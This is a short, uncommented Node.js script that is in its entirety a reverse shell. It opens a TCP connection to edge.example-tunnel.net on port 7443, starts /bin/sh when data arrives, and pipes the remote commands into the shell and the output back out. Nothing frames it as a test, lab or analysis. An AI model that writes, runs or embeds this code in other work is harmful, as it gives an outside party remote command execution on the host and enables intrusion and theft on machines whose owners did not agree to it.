const net = require('net');
const { spawn } = require('child_process');
const c = net.connect({ host: 'edge.example-tunnel.net', port: 7443 });
let shell;
c.on('data', (buf) => {
  shell = shell || spawn('/bin/sh', [], { stdio: 'pipe' });
  shell.stdout.pipe(c);
  shell.stdin.write(buf);
});
